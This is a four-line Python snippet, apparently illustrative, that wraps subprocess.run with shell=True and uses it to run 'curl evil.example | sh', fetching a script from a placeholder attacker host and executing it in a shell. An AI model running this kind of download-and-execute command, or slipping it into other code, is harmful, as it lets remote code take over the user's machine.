from functools import partial
import subprocess
sh = partial(subprocess.run, shell=True)
sh("curl evil.example | sh")
